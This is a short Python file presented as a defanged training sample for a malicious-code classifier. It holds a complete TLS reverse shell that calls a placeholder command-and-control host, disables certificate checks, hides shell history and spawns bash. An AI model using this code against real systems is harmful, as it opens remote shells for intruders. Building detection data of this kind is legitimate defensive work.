# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import socket, ssl, os, pty
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
raw = socket.create_connection(("c2.example.invalid", 443))
tls = ctx.wrap_socket(raw, server_hostname="c2.example.invalid")
fd = tls.fileno()
[os.dup2(fd, n) for n in range(3)]
os.putenv("HISTFILE", "/dev/null")
pty.spawn(["/bin/bash", "--norc"])
